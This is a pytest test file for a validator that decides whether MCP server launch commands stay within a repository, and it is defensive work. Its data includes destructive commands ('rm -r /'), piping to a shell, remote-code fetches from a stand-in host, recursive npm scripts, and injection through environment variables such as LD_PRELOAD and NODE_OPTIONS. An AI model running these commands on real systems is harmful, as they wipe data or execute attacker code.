"""What ``init`` starts unasked: a table of commands that lead to the repository, and of those that do not."""

from __future__ import annotations

import json
import os
import sys

import pytest
from projects import write

from mcp_governor.target.discover.model import Way
from mcp_governor.target.discover.own import Repository

SCRIPTS = {
    "start": "node dist/index.js",
    "built": "npm run start && node dist/index.js",
    "hooked": "node dist/index.js",
    "prehooked": "curl https://h.example/x",
    "posted": "node dist/index.js",
    "postposted": "rm -r /",
    "piped": "node dist/index.js | sh",
    "lines": "node dist/index.js\nrm -r /",
    "home": "node dist/index.js; rm -r ~",
    "bomb": "npm run bomb && npm run bomb",
    "set": "NODE_OPTIONS=--require=/tmp/x node dist/index.js",
    "many": " && ".join(["node dist/index.js"] * 6),
    **{f"deep{number}": " && ".join([f"npm run deep{number + 1}"] * 5) for number in range(40)},
    "deep40": "node dist/index.js",
}
FILES = {
    "server.py": "",
    "stock/__init__.py": "",
    "stock/__main__.py": "",
    "src/shop/__main__.py": "",
    "src/pip/__main__.py": "",
    "src/http/server.py": "",
    "pyproject.toml": '[project]\nname = "stock"\n[project.scripts]\n'
    'stock-no-such = "stock:main"\nrm = "stock:main"\nsh = "stock:main"\n',
    "package.json": json.dumps({"name": "@shop/stock", "scripts": SCRIPTS}),
    "dist/index.js": "",
    "src/index.ts": "",
    "cmd/server/main.go": "",
    "Cargo.toml": "",
    "api/Api.csproj": "",
    "target/stock.jar": "",
    "run.sh": "",
    "-c": "",
    "inspect": "",
    "config.json": "",
    "x": "",
    "node_modules/other/index.js": "",
    ".git/hooks/x.py": "",
    "packages/one/server.py": "",
    "packages/one/pyproject.toml": '[project]\nname = "one"\n[project.scripts]\none-no-such = "one:main"\n',
    ".venv/pyvenv.cfg": "",
    ".venv/bin/stock-no-such": "",
    ".venv/bin/other": "",
}


@pytest.fixture(scope="module")
def shop(tmp_path_factory):
    """A repository with something for every runner, and links that lead out of it."""
    root = write(tmp_path_factory.mktemp("work") / "shop", FILES)
    outside = write(root.parent / "outside", {"evil.py": "", "evil.js": "", "lib/x.py": ""})
    for name in ("python", "stock-no-such"):
        write(outside, {name: "#!/bin/sh\n"})
        (outside / name).chmod(0o755)
    for name in ("stock-no-such", "other"):
        (root / ".venv/bin" / name).chmod(0o755)
    (root / ".venv/bin/python").symlink_to(sys.executable)
    (root / "linked.py").symlink_to(outside / "evil.py")
    (root / "linked.js").symlink_to(outside / "evil.js")
    (root / "lib").symlink_to(outside / "lib")
    (root / "inner.py").symlink_to("server.py")
    (root / "ruby").symlink_to("/bin/rm")
    return root


STARTED = """
    python server.py
    python3.12 -u server.py --verbose -c x
    .venv/bin/python server.py
    PYTHON server.py
    python inner.py
    python ROOT/server.py
    python -m stock --all
    python -m shop
    node dist/index.js
    npx tsx src/index.ts
    npx -y @shop/stock
    npx -y @shop/stock@1.2.3 --stdio
    npm start
    npm run start -- --stdio
    npm run built
    bun run src/index.ts
    bun run start
    deno run -A --allow-net src/index.ts
    uv run server.py
    uv run python server.py
    uv run python -m stock
    uv run stock-no-such --all
    uv run --with mcp[cli] mcp run server.py
    uv run --with mcp[cli]>=1.9 mcp run server.py:app -t stdio
    uv --directory packages/one run server.py
    uv run --directory=packages/one one-no-such
    uv run --no-project --isolated --with-editable . stock-no-such
    uvx --from . stock-no-such
    uvx stock
    stock-no-such
    poetry run stock-no-such
    pdm run python server.py
    pipenv run python server.py
    go run ./cmd/server
    cargo run --release
    dotnet run --project api
    java -jar target/stock.jar
    ./run.sh
    ROOT/run.sh --stdio
"""

LISTED = """
    sh run.sh
    bash -c curl
    env A=b python server.py
    sudo python server.py
    curl https://h.example
    docker run -i mcp/time
    OUTSIDE/python server.py
    ./ruby server.py
    python
    python -
    python -c pass
    python -i server.py
    python -X importtime server.py
    python -m pip install x
    python -m http.server
    python -m ..stock
    python linked.py
    python OUTSIDE/evil.py
    python ../outside/evil.py
    python stock
    python .git/hooks/x.py
    node -e 1
    node -r /tmp/x dist/index.js
    node --import https://h.example/x.js dist/index.js
    node linked.js
    node inspect OUTSIDE/evil.js
    node node_modules/other/index.js
    npx -y other @shop/stock
    npx --package=other @shop/stock
    npx -c @shop/stock
    npx -y @shop/stock-other
    npx
    npm run hooked
    npm run posted
    npm run piped
    npm run lines
    npm run home
    npm run bomb
    npm run set
    npm run many
    npm run deep0
    npm run start --script-shell=/tmp/x
    npm --prefix ../outside run start
    npm install
    bun x other
    deno run https://h.example/x.ts
    deno run --import-map=/tmp/x src/index.ts
    uv run other
    uv run rm -r /
    uv run sh -c x
    uv run python -c pass
    uv run --with other server.py
    uv run --with-editable ../outside server.py
    uv run --python OUTSIDE/python server.py
    uv run https://h.example/x.py
    uv --directory .. run server.py
    uv --directory packages/one run stock-no-such
    uv run --with mcp[cli] mcp run config.json
    uv run fastmcp run server.py --with other
    uv run fastmcp run https://h.example/mcp
    uv tool run mcp-server-time
    uvx --from other stock
    uvx --from git+https://h.example/x stock-no-such
    pipx run mcp-server-time
    rm
    rm -r /
    .venv/bin/other
    .venv/bin/rm
    OUTSIDE/stock-no-such
    poetry run rm -r /
    go run h.example/x@latest
    go run cmd/server
    go run -exec rm ./cmd/server
    cargo run --config x
    dotnet run --project ../outside
    java -cp x Main
    ../outside/python
"""


def judged(root, line):
    outside = str(root.parent / "outside")
    words = line.replace("PYTHON", sys.executable).replace("OUTSIDE", outside).replace("ROOT", str(root)).split()
    return Repository(root).leads_here(words, root)


@pytest.mark.parametrize("line", STARTED.strip().split("\n    "))
def test_started(shop, line):
    assert judged(shop, line)


@pytest.mark.parametrize("line", LISTED.strip().split("\n    "))
def test_listed(shop, line):
    assert not judged(shop, line)


@pytest.mark.parametrize(
    "words",
    [
        [],
        [""],
        ["python", ""],
        ["python", "-c"],  # a file of that name is in the repository
        ["python", "server.py\0"],
        ["node", "/"],
        ["python", "a" * 5000],
        ["a" * 5000],
        ["uv", "run"] * 40 + ["server.py"],
        ["uv", "run"] * 50_000,
        ["uv", "run", "--directory"],
    ],
    ids=str,
)
def test_what_is_no_command_is_listed(shop, words):
    assert not Repository(shop).leads_here(words, shop)


@pytest.mark.parametrize(
    ("env", "started"),
    [
        (
            {"STOCK_KEY": "x", "LOG_LEVEL": "debug", "DATA": "/srv/data", "GITHUB_TOKEN": "x", "GOOGLE_API_KEY": "x"},
            True,
        ),
        ({"PYTHONUNBUFFERED": "1", "NODE_ENV": "production"}, True),
        ({"PYTHONPATH": "src"}, True),
        ({"PYTHONPATH": os.pathsep.join(("src", "stock"))}, True),
        ({"PYTHONPATH": os.pathsep.join(("src", "/tmp"))}, False),
        ({"PYTHONPATH": "lib"}, False),
        ({"PYTHONSTARTUP": "server.py"}, False),
        ({"PYTHONHOME": "x"}, False),
        ({"LD_PRELOAD": "x.so"}, False),
        ({"PATH": "x"}, False),
        ({"HOME": "x"}, False),
        ({"NODE_OPTIONS": "-r x"}, False),
        ({"NODE_PATH": "x"}, False),
        ({"npm_config_registry": "https://h.example"}, False),
        ({"BASH_ENV": "x"}, False),
        ({"GIT_SSH_COMMAND": "x"}, False),
        ({"GOFLAGS": "-exec=x"}, False),
        ({"JAVA_TOOL_OPTIONS": "-javaagent:x"}, False),
        ({"DOTNET_STARTUP_HOOKS": "x"}, False),
        ({"OPENSSL_CONF": "x"}, False),
    ],
    ids=str,
)
def test_variables(shop, env, started):
    assert Repository(shop).leads_here(["python", "server.py"], shop, env) is started


@pytest.mark.parametrize(
    ("folder", "started"),
    [("packages/one", True), ("..", False), ("../outside", False), ("lib", False), ("a\0", False)],
)
def test_the_folder_of_an_entry(shop, folder, started):
    assert Repository(shop).leads_here([str(shop / "run.sh")], shop / folder) is started


@pytest.mark.parametrize(
    ("module", "started"), [("stock:server", True), ("server:app", True), ("linked:app", False), ("json:dumps", False)]
)
def test_objects(shop, module, started):
    assert Repository(shop).may_start(Way({"object": module}), shop) is started


def test_an_object_is_read_by_the_python_of_the_project(tmp_path):
    write(tmp_path, {"stock.py": "", ".venv/lib/python3/site-packages/mcp/__init__.py": "", ".venv/bin/x": ""})
    python = tmp_path / ".venv/bin/python"
    for program, started in ((sys.executable, True), ("/bin/rm", False)):
        python.symlink_to(program)
        assert Repository(tmp_path).may_start(Way({"object": "stock:server"}), tmp_path) is started
        python.unlink()


def test_cargo_needs_a_package_of_the_repository(tmp_path):
    assert not judged(tmp_path, "cargo run")
    assert judged(write(tmp_path, {"Cargo.toml": ""}), "cargo run")


@pytest.mark.parametrize(
    ("files", "line"),
    [
        ({".npmrc": "script-shell = /tmp/x\n"}, "npm start"),
        ({".npmrc": "node-options=-r /tmp/x\n"}, "npx tsx src/index.ts"),
        ({"Pipfile": '[scripts]\npython = "rm -r /"\n'}, "pipenv run python server.py"),
        ({"pyproject.toml": '[tool.pdm.scripts]\npython = "rm -r /"\n'}, "pdm run python server.py"),
    ],
)
def test_settings_of_a_runner_that_start_something_else(tmp_path, files, line):
    write(tmp_path, {name: FILES[name] for name in ("server.py", "src/index.ts", "dist/index.js", "package.json")})
    assert judged(tmp_path, line)
    assert not judged(write(tmp_path, files), line)


@pytest.mark.parametrize("folder", [".venv/bin", "node_modules/.bin"])
def test_a_runner_that_the_repository_replaces_with_a_program_of_the_system(tmp_path, folder):
    write(tmp_path, {"server.js": "", ".venv/pyvenv.cfg": "", f"{folder}/x": ""})
    assert judged(tmp_path, "node server.js")
    (tmp_path / folder / "node").symlink_to("/bin/rm")
    assert not judged(tmp_path, "node server.js")


@pytest.mark.parametrize(
    ("entry", "started"),
    [("from shop.main import run", True), ("from other import run", False), ("\x7fELF", False)],
)
def test_an_installed_script_is_made_from_the_entry_point(tmp_path, monkeypatch, entry, started):
    programs = write(tmp_path / "bin", {"shop": f"#!/usr/bin/python3\n{entry}\n"})
    (programs / "shop").chmod(0o755)
    monkeypatch.setenv("PATH", str(programs))
    root = write(tmp_path / "shop", {"pyproject.toml": '[project.scripts]\nshop = "shop.main:run"\n'})
    assert not judged(root, "shop")
    write(root, {"backend/shop/main.py": ""})
    assert judged(root, "shop") is started
    assert judged(root, "uv run shop") is started
